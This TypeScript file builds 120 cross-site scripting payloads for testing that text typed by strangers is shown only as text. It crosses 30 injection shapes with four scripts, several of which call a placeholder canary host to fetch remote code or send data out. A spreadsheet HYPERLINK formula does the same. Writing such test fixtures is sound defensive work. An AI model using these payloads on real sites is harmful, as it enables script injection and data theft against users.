/** What strangers might type where staff will read it. Nothing of it may become more than text. */

/** A host that does not exist: a request to it means that a payload was executed. */
const CANARY = 'canary.example.com'

const SCRIPT = [
  'alert(1)',
  `fetch('//${CANARY}')`,
  'window.hostile=1',
  `import('//${CANARY}/x.js')`,
] as const

const SHAPES: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `'><img src=x onerror="${script}">`,
  (script) => `<img src=//${CANARY}/i.png onload=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `[x](javascript:${script})`,
  (script) => `![x](//${CANARY}/i.png "${script}")`,
  (script) => `<details open ontoggle=${script}>x</details>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<math><mi xlink:href="data:x,<script>${script}</script>">`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `<!--<img src="--><img src=x onerror=${script}>`,
  (script) => `<style>@import'//${CANARY}/x.css';/*${script}*/</style>`,
  (script) => `<link rel=stylesheet href=//${CANARY}/x.css title="${script}">`,
  (script) => `<meta http-equiv=refresh content="0;url=//${CANARY}/${script}">`,
  (script) => `<base href=//${CANARY}/ data-x="${script}">`,
  (script) => `<form action=//${CANARY}><button autofocus onfocus=${script}>x</button></form>`,
  (script) => `<object data="data:text/html,<script>${script}</script>"></object>`,
  (script) => `\${${script}}{{${script}}}<%= ${script} %>`,
  (script) => `＜script＞${script}＜/script＞\u202e`,
  (script) => `";${script};//`,
  (script) => `=HYPERLINK("//${CANARY}?"&A1,"${script}")`,
  (script) => `javascript:/*--></title></style></textarea></script>*/${script}`,
]

/** 120 of them. */
export const XSS_PAYLOADS: readonly string[] = SHAPES.flatMap((shape) => SCRIPT.map(shape))
